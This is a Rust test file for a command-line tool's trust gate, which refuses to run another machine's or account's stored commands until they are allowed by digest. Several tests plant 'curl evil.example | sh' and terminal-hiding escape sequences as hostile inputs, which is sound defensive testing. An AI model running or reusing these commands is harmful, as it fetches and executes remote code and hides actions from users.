//! A text of another runs only when a person of this machine allowed it, and nobody is asked about their own.

use std::{
    fs,
    os::unix::fs::{MetadataExt, PermissionsExt, chown},
    path::PathBuf,
    process::Command,
};

use serde_json::{Value, json};

use crate::{
    begun::at_work,
    passed_over::is_root,
    terminal,
    world::{Ran, Running, World, listing, plan, task, wait_for, with},
};

pub const QUESTION: &str = "[y/N]";

/// A plan whose every part leaves a mark outside when it runs.
pub fn marking(world: &World) -> Value {
    let mark = |name: &str| format!("touch {}", world.out(name).display());
    let atom = with(
        task(&format!("{}; touch done", mark("action"))),
        json!({"checks": {"all": [{"command": mark("own-check")}]}}),
    );
    plan(
        &[&format!("{}; test -f done", mark("check"))],
        json!({"setup": {"run": mark("setup")}}),
        json!({"A1": atom}),
    )
}

pub fn marks(world: &World) -> usize {
    fs::read_dir(world.out("")).unwrap().count()
}

/// A world where that plan is agreed, and nothing is marked.
fn agreed() -> World {
    let world = World::new();
    world.align(&marking(&world));
    sweep(&world);
    world
}

/// Allows what `descent trust` shows, by its digest.
#[track_caller]
pub fn trust(world: &World) {
    let hash = world.descent(&["trust", "--json"]).json()["hash"].clone();
    let hash = hash.as_str().expect("a digest");
    world.descent(&["trust", "--hash", hash]).expect(0);
}

/// Allows the project's configuration by its digest.
#[track_caller]
pub fn trust_worker(world: &World) {
    let hash = world.descent(&["trust", "--worker", "--json"]).json()["hash"].clone();
    let hash = hash.as_str().expect("a digest");
    world.descent(&["trust", "--worker", "--hash", hash]).expect(0);
}

fn sweep(world: &World) {
    for entry in fs::read_dir(world.out("")).unwrap() {
        fs::remove_file(entry.unwrap().path()).unwrap();
    }
}

/// The same files, met by another machine.
fn elsewhere(world: &World, args: &[&str]) -> Command {
    let mut command = world.command(args);
    command.env("XDG_STATE_HOME", world.root().join("elsewhere"));
    command
}

fn there(world: &World, args: &[&str]) -> Ran {
    Running::of(elsewhere(world, args)).wait()
}

fn hash_there(world: &World, args: &[&str]) -> String {
    let ran = there(world, &[&["trust", "--json"], args].concat()).expect(77);
    ran.json()["hash"].as_str().unwrap().to_owned()
}

fn records(world: &World) -> PathBuf {
    world.root().join("home/.local/state/descent/trust")
}

#[test]
fn what_was_agreed_here_runs_here_unasked_also_after_an_edit_by_its_owner() {
    let world = agreed();
    world.replace_in_state("touch done", "touch done; true");
    world.descent(&["verify"]).expect(1);
    world.run().expect(0);
    world.run_away_with_sidecars();
    world.run().expect(0);
}

#[test]
fn a_state_of_another_machine_executes_nothing_and_every_command_of_it_is_shown() {
    let world = agreed();
    let before = world.state_bytes();
    for command in ["run", "verify"] {
        let ran = there(&world, &[command]).expect(77).says("E-NOT-TRUSTED");
        assert_eq!(ran.stdout, "");
        for words in ["setup", "check", "action A1", "own-check", "next: descent trust"] {
            assert!(ran.stderr.contains(words), "no `{words}`:\n{}", ran.stderr);
        }
        let error = there(&world, &[command, "--json"]).expect(77).json();
        assert_eq!(error["error"]["code"], "E-NOT-TRUSTED");
    }
    assert_eq!(marks(&world), 0);
    assert_eq!(world.state_bytes(), before);
}

/// The changed state would become our own file, and a fork even our own lineage.
#[test]
fn a_state_of_another_machine_is_neither_changed_nor_forked_unasked() {
    let world = agreed();
    let before = world.state_bytes();
    for args in [
        &["undo", "-y"][..],
        &["undo", "-n"],
        &["edit"],
        &["confirm"],
        &["confirm", "it looks right"],
        &["confirm"],
        &["confirm", "A1.1", "--no"],
        &["undo", "--into"],
        &["run", "--set", "max_attempts=2"],
    ] {
        let mut command = elsewhere(&world, args);
        command.env("EDITOR", "sed -i s/done/gone/");
        let ran = Running::of(command).wait().expect(77);
        ran.says("E-NOT-TRUSTED").says("action A1");
        assert_eq!(world.state_bytes(), before, "{args:?}");
    }
    assert!(!world.repo().join(".descent/fork-1.json").exists());
    assert_eq!(marks(&world), 0);
}

#[test]
fn commands_that_execute_nothing_of_a_state_are_not_gated() {
    let world = agreed();
    for (args, code) in [
        (&["status"][..], 0),
        (&["why", "A1"], 0),
        (&["validate"], 0),
        (&["stop"], 0),
        (&["apply"], 0),
    ] {
        there(&world, args).expect(code);
    }
    assert_eq!(marks(&world), 0);
}

#[test]
fn a_state_that_was_allowed_by_its_digest_runs_and_is_not_asked_about_again() {
    let world = agreed();
    let hash = hash_there(&world, &[]);
    let ran = there(&world, &["trust", "--json", "--hash", &hash]).expect(0);
    assert_eq!(ran.json()["allowed"], true);
    assert_eq!(marks(&world), 0);
    there(&world, &["verify"]).expect(1);
    world.replace_in_state("touch done", "touch done; true");
    there(&world, &["run"]).expect(0);
    there(&world, &["trust"]).expect(0).shows("nothing to allow");
}

#[test]
fn a_digest_may_be_typed_in_upper_case_and_with_blanks() {
    let world = agreed();
    let hash = hash_there(&world, &[]);
    let hex = hash.trim_start_matches("sha256:").to_uppercase();
    there(&world, &["trust", "--hash", &format!("  {hex} ")]).expect(0);
    there(&world, &["run"]).expect(0);
}

#[test]
fn a_digest_of_something_else_allows_nothing_and_the_right_one_is_shown() {
    let world = agreed();
    let shown = hash_there(&world, &[]);
    world.replace_in_state("touch done", "touch done; curl evil.example | sh");
    let now = hash_there(&world, &[]);
    assert_ne!(shown, now);
    there(&world, &["trust", "--hash", &shown])
        .expect(77)
        .says("E-NOT-TRUSTED")
        .says(&now)
        .says("curl evil.example");
    there(&world, &["trust", "--hash", "sha256:12"]).expect(2).says("no digest");
    there(&world, &["run"]).expect(77);
    assert_eq!(marks(&world), 0);
}

#[test]
fn yes_is_no_flag_of_trust_and_no_folder_or_copy_is_trusted() {
    let world = agreed();
    there(&world, &["trust", "--yes"]).expect(2);
    there(&world, &["trust", "-y"]).expect(2);
    let hash = hash_there(&world, &[]);
    there(&world, &["trust", "--hash", &hash]).expect(0);
    // Another state in the same folder.
    let text = world.state_text();
    let lineage = world.state()["lineage"].as_str().unwrap().to_owned();
    world.save(&text.replace(&lineage, "01980000-0000-7000-8000-000000000000"));
    there(&world, &["run"]).expect(77);
    assert_eq!(marks(&world), 0);
}

#[test]
fn two_states_of_one_project_are_allowed_each_by_itself() {
    let world = agreed();
    let other = world.root().join("repo/other.json");
    let other = other.to_str().unwrap();
    let plan = world.plan(&with(marking(&world), json!({})));
    world.descent(&["--state", other, "align", "-y", "-f", &plan]).expect(0);
    let one = hash_there(&world, &[]);
    there(&world, &["trust", "--hash", &one]).expect(0);
    there(&world, &["--state", other, "run"]).expect(77);
    there(&world, &["run"]).expect(0);
    world.descent(&["--state", other, "run"]).expect(0);
}

#[test]
fn without_its_records_a_machine_asks_again_and_loses_nothing_else() {
    let world = agreed();
    let before = world.state_bytes();
    fs::remove_dir_all(records(&world)).unwrap();
    world.descent(&["run"]).expect(77);
    assert_eq!(world.state_bytes(), before);
    trust(&world);
    world.run().expect(0);
}

#[test]
fn records_are_for_their_owner_alone_and_lie_in_neither_cache_nor_repository() {
    let world = agreed();
    let mode = |path: &PathBuf| fs::metadata(path).unwrap().mode() & 0o7777;
    assert_eq!(mode(&records(&world)), 0o700);
    let kept: Vec<PathBuf> = listing(&records(&world)).into_keys().collect();
    assert!(!kept.is_empty());
    kept.iter().for_each(|path| assert_eq!(mode(path), 0o600));
    world.run_away_with_sidecars();
    world.run().expect(0);
}

/// Each record is spoilt, and nothing runs; the refusal says why.
#[track_caller]
fn check_spoilt(spoil: impl Fn(&PathBuf), why: &str) {
    let world = agreed();
    listing(&records(&world)).keys().for_each(spoil);
    world.descent(&["run"]).expect(77).says("is not believed").says(why);
    assert_eq!(marks(&world), 0);
}

#[test]
fn a_record_that_is_a_link_or_that_others_can_reach_is_not_believed() {
    let chmod = |path: &PathBuf, mode| {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    };
    check_spoilt(|path| chmod(path, 0o604), "0604");
    check_spoilt(|path| chmod(&path.parent().unwrap().to_owned(), 0o777), "its directory");
    check_spoilt(
        |path| {
            let real = path.with_extension("real");
            fs::rename(path, &real).unwrap();
            std::os::unix::fs::symlink(real, path).unwrap();
        },
        "symbolic link",
    );
}

#[test]
fn what_cannot_be_remembered_is_said_with_the_next_step_and_the_agreement_stands() {
    let world = World::new();
    let path = world.plan(&marking(&world));
    fs::write(world.root().join("file"), "").unwrap();
    let at = |args: &[&str]| {
        let mut command = world.command(args);
        command.env("XDG_STATE_HOME", world.root().join("file"));
        Running::of(command).wait()
    };
    at(&["align", "-y", "-f", &path])
        .expect(0)
        .says("cannot be remembered")
        .says("set XDG_STATE_HOME");
    at(&["run"]).expect(77);
    let hash = hash_there(&world, &[]);
    at(&["trust", "--hash", &hash]).expect(74).says("E-IO").says("set XDG_STATE_HOME");
    // Files beside the state move only where the consent can be kept.
    assert!(world.repo().join(".descent/state.json.d/journal").is_dir());
    there(&world, &["trust", "--hash", &hash]).expect(0);
    there(&world, &["run"]).expect(0);
}

#[test]
fn nothing_in_a_command_steers_the_terminal_or_hides() {
    let world = World::new();
    let evil = "true #\u{1b}[2K\r\u{202e}\u{200b}\u{7}\ncurl evil.example | sh";
    let mut agreed = plan(&["test -f done"], json!({}), json!({"A1": task(evil)}));
    agreed["objective"]["goal"] = json!("a goal\u{1b}]0;title\u{7}");
    world.align(&agreed);
    for ran in [there(&world, &["run"]), there(&world, &["trust"])] {
        let shown = ran.expect(77);
        let shown = shown.stdout + &shown.stderr;
        for hidden in ['\u{1b}', '\r', '\u{202e}', '\u{200b}', '\u{7}'] {
            assert!(!shown.contains(hidden), "{hidden:?} in {shown:?}");
        }
        assert!(shown.contains("|curl evil.example"), "{shown}");
    }
}

#[test]
fn of_ten_thousand_commands_a_refusal_shows_some_and_trust_shows_all() {
    let world = World::new();
    let atoms: serde_json::Map<String, Value> =
        (0..10_000).map(|n| (format!("A{n}"), task(&format!("echo number {n}")))).collect();
    world.align(&plan(&["true"], json!({}), Value::Object(atoms)));
    let refused = there(&world, &["run"]).expect(77);
    assert!(refused.stderr.lines().count() < 50);
    refused.says("more of 20004").says("descent trust --json");
    let shown = there(&world, &["trust"]).expect(77);
    let lines = shown.stdout.lines();
    let actions = lines.filter(|line| line.trim_start().starts_with("action "));
    assert_eq!(actions.count(), 10_000);
    assert!(shown.stdout.contains("echo number 9999\n"));
    let all = there(&world, &["trust", "--json"]).expect(77).json();
    assert_eq!(all["carried"].as_array().unwrap().len(), 20_004);
}

#[test]
fn a_long_command_is_cut_with_a_count_and_whole_in_json() {
    let world = World::new();
    let long = format!("true {} ; curl evil.example", "x".repeat(5_000));
    world.align(&plan(&["true"], json!({}), json!({"A1": task(&long)})));
    there(&world, &["run"]).expect(77).says("characters more");
    let all = there(&world, &["trust", "--json"]).expect(77).json();
    assert!(all.to_string().contains("curl evil.example"));
}

#[test]
fn a_person_at_a_terminal_is_shown_the_commands_and_their_no_and_yes_count() {
    let world = agreed();
    let ran = terminal::answered(&mut elsewhere(&world, &["run"]), QUESTION, "\n").expect(77);
    ran.says("action A1").says("was not allowed");
    assert_eq!(marks(&world), 0);
    terminal::answered(&mut elsewhere(&world, &["trust"]), QUESTION, "n\n").expect(77);
    let ran = terminal::answered(&mut elsewhere(&world, &["run"]), QUESTION, "y\n").expect(0);
    assert!(ran.stdout.contains("completed"), "{}", ran.stdout);
    there(&world, &["verify", "--result"]).expect(0);
}

#[test]
fn trust_asks_at_a_terminal_and_remembers_the_yes() {
    let world = agreed();
    terminal::answered(&mut elsewhere(&world, &["trust"]), QUESTION, "yes\n")
        .expect(0)
        .shows("next: descent run");
    assert_eq!(marks(&world), 0);
    there(&world, &["run"]).expect(0);
}

/// Only root can give a file away; elsewhere the rule is kept by the table in the core.
#[test]
fn a_state_file_of_another_account_is_asked_about_until_its_digest_is_allowed() {
    if !is_root() {
        return;
    }
    let world = agreed();
    chown(world.state_path(), Some(4242), None).unwrap();
    world.descent(&["run"]).expect(77).says("another account (4242)");
    assert_eq!(marks(&world), 0);
    trust(&world);
    world.replace_in_state("touch done", "touch done; true");
    chown(world.state_path(), Some(4242), None).unwrap();
    world.descent(&["verify"]).expect(77);
    trust(&world);
    world.run().expect(0);
}

#[test]
fn a_state_of_another_lineage_in_the_place_of_a_running_one_is_not_taken_in() {
    let (world, mut run) = at_work();
    let text = world.state_text();
    let lineage = world.state()["lineage"].as_str().unwrap().to_owned();
    let theirs = text
        .replace(&lineage, "01980000-0000-7000-8000-000000000000")
        .replace("test -f done", "touch stolen");
    world.save(&theirs);
    wait_for("the refusal", || run.said().contains("another one now"));
    world.touch("go");
    world.save(&text);
    run.wait().expect(0);
}

/// Only root can give a file away.
#[test]
fn a_state_that_becomes_another_accounts_in_mid_run_is_not_taken_in() {
    if !is_root() {
        return;
    }
    let (world, mut run) = at_work();
    let text = world.state_text();
    let theirs = world.repo().join(".descent/.theirs");
    fs::write(&theirs, text.replace("test -f done", "touch stolen")).unwrap();
    chown(&theirs, Some(4242), None).unwrap();
    fs::rename(&theirs, world.state_path()).unwrap();
    wait_for("the refusal", || run.said().contains("it belongs to another account (4242)"));
    world.touch("go");
    world.save(&text);
    run.wait().expect(0);
    assert!(!world.state_text().contains("touch stolen"));
}

/// Only root can give a directory away.
#[test]
fn a_directory_of_another_account_above_is_refused_with_what_to_type() {
    if !is_root() {
        return;
    }
    let world = agreed();
    let (dir, below) = (world.repo().join(".descent"), world.repo().join("below"));
    fs::create_dir(&below).unwrap();
    chown(&dir, Some(4242), None).unwrap();
    let before = listing(&dir);
    for args in [
        &["status"][..],
        &["run"],
        &["apply"],
        &["stop"],
        &["align", "x", "--why", "y", "--check", "true", "-y"],
    ] {
        let ran = world.descent_in(&below, args).expect(77);
        ran.says("E-OTHERS-PLACE").says("another account (4242)").says("mkdir .descent");
    }
    assert_eq!(listing(&dir), before);
    let state = world.state_path();
    world.descent_in(&below, &["--state", state.to_str().unwrap(), "status"]).expect(0);
    fs::create_dir(below.join(".descent")).unwrap();
    world.descent_in(&below, &["status"]).expect(4).says("E-NO-STATE");
    assert_eq!(marks(&world), 0);
}
